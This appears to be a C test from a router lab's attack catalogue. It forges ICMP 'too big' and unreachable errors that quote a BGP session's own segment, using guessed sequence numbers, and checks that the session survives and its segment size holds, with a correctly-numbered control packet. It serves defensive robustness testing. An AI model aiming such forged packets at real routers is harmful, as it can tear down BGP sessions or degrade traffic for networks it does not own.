/*
 * ICMP errors forged against a BGP session (RFC 5927): too big with numbers that a blind attacker guesses, and unreachables with
 * the right ones. Its control is in it: too big with the right number does lower the segment size, so what was tried was well made.
 */
#include "lab/attacks/catalogue.h"
#include "lab/attacks/router.h"
#include "lab/attacks/victim.h"

#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define BLIND	    8
#define STEP	    0x10000000u
#define UNREACHABLE 3
#define TOO_BIG	    4
#define MTU	    552
#define LIVES_MS    100
#define MSS_MS	    500

struct icm_02_mss {
	int was, is;
};

static int icm_02_mss(struct attack_stage *st)
{
	char out[2048] = "";
	const char *at;

	attack_shell(st, st->run->topo.nodes[st->pe_node].name,
		"ss -tinH state established dst 192.168.4.2", out, sizeof out);
	at = strstr(out, " mss:");
	return at ? atoi(at + 5) : -1;
}

static bool icm_02_fell(struct attack_stage *st, void *arg)
{
	struct icm_02_mss *m = arg;

	m->is = icm_02_mss(st);
	return m->is > 0 && m->is < m->was;
}

/* The quoted segment is the router's own: TTL 255, its ports, its number plus offset. */
static void icm_02_send(struct attack_stage *st, struct attack_impact *out, const struct victim *v,
	uint8_t code, uint32_t offset)
{
	uint32_t seq = v->from_seq + offset;
	const uint8_t quoted[] = {0x45, 0, 5, 220, 0, 1, 0x40, 0, 255, IPPROTO_TCP, 0, 0, 192, 168,
		4, 1, 192, 168, 4, 2, 0, 179, (uint8_t)(v->port >> 8), (uint8_t)v->port,
		(uint8_t)(seq >> 24), (uint8_t)(seq >> 16), (uint8_t)(seq >> 8), (uint8_t)seq};
	struct frame f;

	router_frame(st, &f, "ce-x:eth1", "pe1:eth4");
	frame_ip(&f, &(struct frame_ip){
			     .src = "192.168.4.3", .dst = "192.168.4.1", .protocol = IPPROTO_ICMP});
	frame_icmp(&f, UNREACHABLE, code, code == TOO_BIG ? MTU : 0);
	frame_octets(&f, quoted, sizeof quoted);
	router_send(st, &f, "ce-x:eth1", out);
}

static void icm_02_forge(struct attack_stage *st, struct attack_impact *out, struct victim *v)
{
	struct icm_02_mss m = {.was = icm_02_mss(st)};
	struct attack_impact control = {0};
	bool lives;

	for (unsigned i = 1; i <= BLIND; i++)
		icm_02_send(st, out, v, TOO_BIG, i * STEP);
	for (uint8_t code = 0; code < TOO_BIG; code++)
		icm_02_send(st, out, v, code, 0);
	lives = victim_lives(v, LIVES_MS);
	m.is = icm_02_mss(st);
	out->hit = !lives || m.was < 1 || m.is != m.was;
	out->counted = BLIND;
	out->error = out->error ? out->error : victim_look(v);
	icm_02_send(st, &control, v, TOO_BIG, 0);
	if (!out->hit && !attack_until(st, icm_02_fell, &m, MSS_MS))
		out->error = -EPROTO; /* not even the right one: the others prove nothing */
	snprintf(out->observed, sizeof out->observed,
		"the session %s, its segments stay %d octets; with the right number they fall to "
		"%d",
		lives ? "lives" : "is gone", m.was, m.is);
}

static void icm_02_launch(struct attack_stage *st, struct attack_impact *out)
{
	char ignored[64];
	struct victim v;

	out->partial = true;
	out->error = victim_begin(&v, st);
	if (!out->error)
		icm_02_forge(st, out, &v);
	victim_end(&v, st);
	attack_shell(st, st->run->topo.nodes[st->pe_node].name, "ip route flush cache", ignored,
		sizeof ignored);
}

const struct attack *attack_icm_02(void)
{
	static const struct attack row = {
		.id = "ICM-02",
		.title = "forged ICMP errors against a session: too big, unreachable",
		.clause = "RFC 5927 4, RFC 4381 3.3",
		.attacker = "ce-x:eth1",
		.target = "pe1",
		.passes = "the session lives, its segments stay as large",
		.counter = {{ATTACK_KERNEL, "pe1", "TcpExt:OutOfWindowIcmps", ATTACK_EXACTLY}},
		.launch = icm_02_launch,
		.legit = router_others_live,
	};

	return &row;
}
